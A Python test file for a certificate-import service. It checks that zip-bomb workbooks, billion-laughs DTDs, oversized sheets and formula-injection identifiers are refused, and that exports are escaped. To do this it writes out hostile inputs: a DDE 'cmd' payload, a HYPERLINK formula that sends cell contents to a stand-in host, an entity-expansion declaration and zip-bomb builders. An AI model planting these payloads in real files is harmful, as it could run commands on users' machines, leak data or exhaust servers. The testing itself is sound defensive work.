"""Spreadsheet bombs and formula injection in certificate imports (issue 10, findings 5 and 8).

A workbook is judged by its ZIP directory and a streamed count of its first sheet's rows
before any spreadsheet library parses it; identifiers that a spreadsheet program would run
as formulas are refused row by row; exports escape such values.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tests import factories
from tests.certificates.test_importer import HEADERS, csv_file, row, xlsx_file
from tests.conftest import Account
from trace_service.certificates.importer import ImportLimits, read_table
from trace_service.certificates.models import Certificate
from trace_service.config import load_settings
from trace_service.errors import InvalidInput
from trace_service.registry.models import Product
from trace_service.spreadsheets import (
    SpreadsheetTooLarge,
    check_xlsx,
    escape_formula,
    first_worksheet,
    looks_like_formula,
)

P = "/api/v1"
SHEET = "xl/worksheets/sheet1.xml"


def repack(content: bytes, edits: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """The workbook with some of its parts rewritten (and deflated again)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member.filename)
            target.writestr(member.filename, edits.get(member.filename, lambda d: d)(data))
    return out.getvalue()


def padded(size: int) -> Callable[[bytes], bytes]:
    """A sheet part grown by ``size`` bytes of blank space inside ``<sheetData>``: valid XML
    that deflates about a thousand to one."""
    return lambda data: data.replace(b"</sheetData>", b" " * size + b"</sheetData>")


def with_rows(count: int) -> Callable[[bytes], bytes]:
    """A sheet part with ``count`` more rows of one inline string each."""

    def edit(data: bytes) -> bytes:
        rows = b"".join(
            b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
            for n in range(3, 3 + count)
        )
        return data.replace(b"</sheetData>", rows + b"</sheetData>")

    return edit


def parse_as_before(content: bytes) -> list[tuple[Any, ...]]:
    """What the importer did with a workbook before this change: parse it, then read every
    row of its first sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True, data_only=True)
    try:
        sheet = book.worksheets[0]
        sheet.reset_dimensions()
        return list(sheet.iter_rows(values_only=True))
    finally:
        book.close()


@pytest.fixture
def coffee(db_session: Session) -> Product:
    return factories.ProductFactory(name_vi="Cà phê bột Đắk Đam", gtin="8935012345677")


@pytest.fixture
def workbook(coffee: Product) -> bytes:
    return xlsx_file([HEADERS, row(coffee, "1/GCN")])


def _upload(client, account: Account, content: bytes, name: str, *, dry_run: bool = True):
    return client.post(
        f"{P}/certificates/import?dry_run={str(dry_run).lower()}",
        headers=account.headers,
        data={"file": (io.BytesIO(content), name)},
    )


# -- finding 5: bombs --------------------------------------------------------------------------


def test_is_a_workbook_that_unpacks_past_the_limit_refused_with_413_before_parsing(
    app, client, admin, workbook, monkeypatch, units
):
    bomb = repack(workbook, {SHEET: padded(3 * 1024 * 1024)})
    assert len(bomb) < 40_000  # small on the wire: 3 MiB once unpacked
    # It is a well-formed workbook: the code before this change parsed it whole, as any
    # reader would, and so would a real bomb of gigabytes.
    assert len(parse_as_before(bomb)) == 2
    monkeypatch.setitem(app.config, "IMPORT_MAX_UNCOMPRESSED_BYTES", 1024 * 1024)

    response = _upload(client, admin, bomb, "ds.xlsx")

    assert response.status_code == 413, response.json
    assert response.json["code"] == "payload_too_large"
    assert response.json["message_en"].startswith("The Excel file unpacks to 3.0 MiB")
    assert "over the limit of 1.0 MiB" in response.json["message_en"]
    assert "giải nén ra 3.0 MiB, quá giới hạn 1.0 MiB" in response.json["message"]
    sent = _upload(client, admin, workbook, "ds.xlsx").json
    assert sent["ok"] is True, sent  # the file as sent


def test_is_the_refusal_made_from_the_zip_directory_alone(workbook):
    """A bomb whose packed data is damaged is still refused for its size, not as damaged:
    nothing was unpacked to decide."""
    bomb = bytearray(repack(workbook, {SHEET: padded(3 * 1024 * 1024)}))
    info = zipfile.ZipFile(io.BytesIO(bytes(bomb))).getinfo(SHEET)
    data_at = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(data_at + 200, data_at + info.compress_size - 200):
        bomb[offset] ^= 0x5A
    damaged = bytes(bomb)
    with pytest.raises(Exception):  # noqa: B017 - a reader fails once it unpacks the sheet
        parse_as_before(damaged)

    with pytest.raises(SpreadsheetTooLarge, match=r"unpacks to 3\.0 MiB"):
        read_table("ds.xlsx", damaged, ImportLimits(max_uncompressed_bytes=1024 * 1024))


def test_does_a_part_packed_a_thousand_to_one_count_as_a_bomb_at_any_limit(workbook):
    bomb = repack(workbook, {SHEET: padded(2 * 1024 * 1024)})

    with pytest.raises(SpreadsheetTooLarge) as caught:
        read_table("ds.xlsx", bomb)  # 2 MiB is well within the default limit

    assert "'xl/worksheets/sheet1.xml' is compressed suspiciously well" in caught.value.message_en
    assert caught.value.status == 413


def test_is_a_sheet_with_too_many_rows_refused_before_parsing(workbook):
    many = repack(workbook, {SHEET: with_rows(400)})
    # The same rows, then a sheet that never ends properly: a reader fails at its end, the
    # streamed count stops at the limit long before.
    runaway = repack(many, {SHEET: lambda data: data.replace(b"</sheetData>", b"<<<")})
    with pytest.raises(Exception):  # noqa: B017 - a reader fails at the sheet's end
        parse_as_before(runaway)

    limits = ImportLimits(max_rows=300)
    for content in (many, runaway):
        with pytest.raises(SpreadsheetTooLarge, match="more than 300 data rows"):
            read_table("ds.xlsx", content, limits)
    assert len(read_table("ds.xlsx", many, ImportLimits(max_rows=401))) == 401


def test_does_the_row_limit_setting_reach_the_api_and_the_command_line(
    app, client, admin, workbook, tmp_path, monkeypatch
):
    many = repack(workbook, {SHEET: with_rows(60)})
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 10)

    response = _upload(client, admin, many, "ds.xlsx")
    assert response.status_code == 413, response.json
    assert response.json["message"] == (
        "Tệp có hơn 10 dòng dữ liệu; hãy chia thành nhiều tệp nhỏ hơn."
    )
    path = tmp_path / "ds.xlsx"
    path.write_bytes(many)
    result = app.test_cli_runner().invoke(args=["certs", "import", str(path), "--dry-run"])
    assert result.exit_code != 0
    assert "more than 10 data rows" in result.output


def test_are_blank_formatted_rows_not_counted(workbook):
    blank = repack(
        workbook,
        {
            SHEET: lambda data: data.replace(
                b"</sheetData>",
                b"".join(b'<row r="%d" s="1" customFormat="1"/>' % n for n in range(3, 2000))
                + b"</sheetData>",
            )
        },
    )
    assert len(read_table("ds.xlsx", blank, ImportLimits(max_rows=5))) == 1


def test_is_only_the_first_worksheet_counted(coffee):
    book = openpyxl.Workbook()
    first = book.active
    first.append(HEADERS)
    first.append(row(coffee, "1/GCN"))
    appendix = book.create_sheet("Phụ lục")
    for n in range(200):
        appendix.append([n])
    book.move_sheet(appendix, offset=0)  # the appendix's part is now the first sheet listed
    book.move_sheet(appendix, offset=1)  # and back second, its part name kept
    buffer = io.BytesIO()
    book.save(buffer)
    content = buffer.getvalue()
    archive = zipfile.ZipFile(io.BytesIO(content))
    assert first_worksheet(archive) == "xl/worksheets/sheet1.xml"

    assert len(read_table("ds.xlsx", content, ImportLimits(max_rows=5))) == 1


def test_is_a_part_that_declares_a_dtd_refused(workbook):
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    bomb = repack(
        workbook, {"xl/styles.xml": lambda data: laughs + re.sub(rb"^<\?xml[^>]*\?>", b"", data)}
    )

    with pytest.raises(InvalidInput, match=r"not a valid \.xlsx"):
        read_table("ds.xlsx", bomb)


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x05\x06" + b"\x00" * 18,  # an empty archive
        b"PK\x03\x04" + b"\x00" * 100,
    ],
)
def test_is_an_archive_without_a_workbook_refused_as_unreadable(content):
    with pytest.raises(InvalidInput, match=r"not a valid \.xlsx"):
        check_xlsx(content, max_uncompressed_bytes=1 << 20, count_rows_to=10)


def test_is_a_csv_counted_as_it_is_read(app, client, admin, coffee, monkeypatch):
    content = csv_file([HEADERS] + [row(coffee, f"{n}/GCN") for n in range(30)])
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 20)

    response = _upload(client, admin, content, "ds.csv")

    assert response.status_code == 413
    assert "more than 20 data rows" in response.json["message_en"]


def test_does_a_real_5000_row_workbook_pass_the_default_limits(coffee):
    content = xlsx_file([HEADERS] + [row(coffee, f"{n}/GCN") for n in range(5000)])

    facts = check_xlsx(content, max_uncompressed_bytes=10 * 1024 * 1024, count_rows_to=5050)

    assert facts.rows == 5001 and facts.uncompressed_bytes < 4 * 1024 * 1024
    assert len(read_table("ds.xlsx", content)) == 5000


def test_are_the_default_limits_the_settings_defaults():
    assert ImportLimits.from_config(load_settings({})) == ImportLimits()


# -- finding 8: formula injection ----------------------------------------------------------------

FORMULAS = {
    "Số GCN": ("=cmd|' /C calc'!A0", "certificate number"),
    "Số quyết định": ("+12/QĐ-UBND", "decision number"),
    "Mã số thuế": ("@SUM(1+1)", "producer tax/registration code"),
    "GTIN": ("-8935012345677", "GTIN"),
}


def test_are_formula_looking_identifiers_refused_row_by_row_in_the_dry_run(
    client, admin, coffee, db_session, units
):
    rows = [HEADERS, row(coffee, "1/GCN", issued="15/03/2024")]
    for n, (header, (value, _)) in enumerate(FORMULAS.items(), start=2):
        rows.append(row(coffee, f"{n}/GCN", issued=f"{10 + n}/04/2024", **{header: value}))
    content = csv_file(rows)

    checked = _upload(client, admin, content, "ds.csv")

    assert checked.status_code == 200 and checked.json["ok"] is False
    problems = {r["line"]: r["problems"] for r in checked.json["rows"]}
    assert problems[2] == []
    for line, (value, field) in enumerate(FORMULAS.values(), start=3):
        says = f"The {field} '{value}' starts with '{value[0]}' like a spreadsheet formula"
        assert len(problems[line]) == 1 and says in problems[line][0], problems[line]
        assert "như một công thức bảng tính" in problems[line][0]
    refused = _upload(client, admin, content, "ds.csv", dry_run=False)
    assert refused.status_code == 422
    assert [r["line"] for r in refused.json["errors"]["rows"]] == [3, 4, 5, 6]
    assert db_session.scalar(select(func.count()).select_from(Certificate)) == 0


def test_is_a_text_cell_that_looks_like_a_formula_refused_in_a_workbook(client, admin, coffee):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(row(coffee, "1/GCN"))
    cell = sheet.cell(row=2, column=HEADERS.index("Số GCN") + 1)
    cell.value, cell.data_type = '=HYPERLINK("http://x.example/?"&A1,"GCN")', "s"  # text
    buffer = io.BytesIO()
    book.save(buffer)

    checked = _upload(client, admin, buffer.getvalue(), "ds.xlsx")

    assert checked.status_code == 200
    assert any("like a spreadsheet formula" in p for p in checked.json["rows"][0]["problems"])


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+84 912", "'+84 912"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("12/GCN-UBND", "12/GCN-UBND"),
        ("Cà phê = ngon", "Cà phê = ngon"),
        ("", ""),
        (-1, -1),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_does_the_export_helper_escape_exactly_what_a_spreadsheet_would_run(value, escaped):
    assert escape_formula(value) == escaped


def test_does_an_escaped_value_stay_text_in_a_csv_and_in_a_workbook():
    values = ["=cmd|' /C calc'!A0", "@SUM(A1)", "DNO-2023-001"]
    buffer = io.StringIO()
    csv.writer(buffer).writerow([escape_formula(v) for v in values])
    read_back = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert not any(looks_like_formula(cell) for cell in read_back)

    book = openpyxl.Workbook()
    book.active.append([escape_formula(v) for v in values])
    saved = io.BytesIO()
    book.save(saved)
    sheet = openpyxl.load_workbook(io.BytesIO(saved.getvalue())).active
    cells: list[Any] = [sheet.cell(row=1, column=n) for n in (1, 2, 3)]
    assert [c.data_type for c in cells] == ["s", "s", "s"]  # text, never a formula ("f")
    assert [c.value for c in cells] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "DNO-2023-001"]
